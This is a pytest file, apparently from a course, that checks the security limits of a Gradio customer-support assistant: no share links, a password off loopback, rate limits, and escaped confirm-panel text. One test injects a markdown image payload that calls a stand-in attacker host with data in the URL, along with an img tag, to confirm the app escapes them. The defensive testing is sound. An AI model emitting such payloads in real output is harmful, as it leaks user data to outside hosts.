"""The capstone's page without a browser: never a public link, a password off loopback, limits, one history.

(The page in a real browser is tests/e2e/test_support_app.py.)
"""

from __future__ import annotations

import re
from pathlib import Path

import gradio as gr
import pytest

from course_tools.isolation import free_port
from support_assistant import app, db
from support_assistant.tools import CustomerSession

ROOT = Path(__file__).resolve().parent.parent


def test_listening_beyond_this_machine_needs_a_password():
    page = gr.Blocks()
    with pytest.raises(SystemExit, match="--auth user:password"):
        app.launch(page, host="0.0.0.0", port=free_port())


def test_no_share_link_even_on_colab_or_with_gradio_share_set(monkeypatch, tmp_path):
    monkeypatch.setenv("GRADIO_SHARE", "True")
    monkeypatch.setattr(gr.utils, "colab_check", lambda: True)  # what Gradio checks to share by itself
    monkeypatch.setattr(gr.utils, "is_hosted_notebook", lambda: True)
    tunnels = []  # a share link is an SSH tunnel to gradio.live: record any attempt instead of making it
    monkeypatch.setattr(gr.networking, "setup_tunnel", lambda **where: tunnels.append(where) or "https://x.gradio.live")
    page = app.build(tmp_path / "shop.db")
    try:
        app.launch(page, port=free_port(), prevent_thread_lock=True, quiet=True, inline=False)
        assert tunnels == [] and page.share is False and page.share_url is None
        assert page.local_url.startswith("http://127.0.0.1:")
    finally:
        page.close()
    unsafe = app.build(tmp_path / "shop.db")  # the same launch without share=False: the test bites
    try:
        unsafe.queue().launch(server_port=free_port(), prevent_thread_lock=True, quiet=True, inline=False)
        assert tunnels and unsafe.share_url == "https://x.gradio.live"
    finally:
        unsafe.close()


LAUNCH = re.compile(r"\.launch\((?P<arguments>[^()]*(?:\([^()]*\)[^()]*)*)\)")


def test_every_launch_in_the_course_passes_share_false():
    sources = [*ROOT.glob("support_assistant/*.py"), *ROOT.glob("solutions/*.py"), *ROOT.glob("helpers/**/*.py")]
    sources += ROOT.glob("notebooks/*.ipynb")
    launches = []
    for path in sources:
        for match in LAUNCH.finditer(path.read_text().replace('\\"', '"')):
            launches.append((path.name, match["arguments"]))
    assert len(launches) >= 2, launches  # the app's and lesson 16's
    for name, arguments in launches:
        assert "share=False" in arguments, f"{name}: launch({arguments}) must pass share=False"


def test_the_conversation_comes_from_the_pages_history_without_the_tool_lines():
    shown = [
        {"role": "user", "content": "Where is my order 1025?"},
        gr.ChatMessage(role="assistant", content="lookup_order(...) returned ...", metadata={"title": "Looked up"}),
        gr.ChatMessage(role="assistant", content="It has shipped."),
        {"role": "user", "content": "Thanks!"},
    ]
    chatbot = gr.Chatbot()
    history = chatbot.preprocess(chatbot.postprocess(shown))  # what Gradio hands the chat function
    assert app.conversation(history) == [
        {"role": "user", "content": "Where is my order 1025?"},
        {"role": "assistant", "content": "It has shipped."},
        {"role": "user", "content": "Thanks!"},
    ]
    assert app.conversation([{"role": "user", "content": [{"type": "file", "file": {"path": "a.png"}}]}]) == []


def test_what_the_model_wrote_shows_in_the_confirm_panel_as_text(tmp_path):
    connection = db.connect(db.create(tmp_path / "shop.db"))
    session = CustomerSession(connection, db.DEMO_CUSTOMER)
    session.propose("Open a ticket: ![ok](https://attacker.example/p?d=1) <img src=x>", dict)
    session.propose("Open a second ticket", dict)
    panel, confirm, cancel = app.pending_panel(app.Visit(session, assistant=None))
    assert "\\!\\[ok\\]\\(https" in panel["value"] and "\\<img" in panel["value"]  # escaped: shown, not loaded
    assert "(1 of 2)" in panel["value"] and "(2 of 2)" in panel["value"] and confirm["visible"]


def test_each_session_has_limits_and_its_state_is_freed(tmp_path):
    connection = db.connect(db.create(tmp_path / "shop.db"))
    visit = app.Visit(CustomerSession(connection, db.DEMO_CUSTOMER), assistant=None)
    assert "under 1000" in visit.refusal("x" * 1001, [])
    full = [{"role": "user", "content": "hi"}] * app.MAX_TURNS
    assert "Press Clear" in visit.refusal("hi", full)
    assert [visit.refusal("hi", []) for _ in range(app.MAX_PER_MINUTE)] == [None] * app.MAX_PER_MINUTE
    assert "a lot of questions" in visit.refusal("hi", [])
    page = app.build(tmp_path / "shop.db")
    [state] = [block for block in page.blocks.values() if isinstance(block, gr.State)][:1]
    assert state.time_to_live == app.SESSION_SECONDS
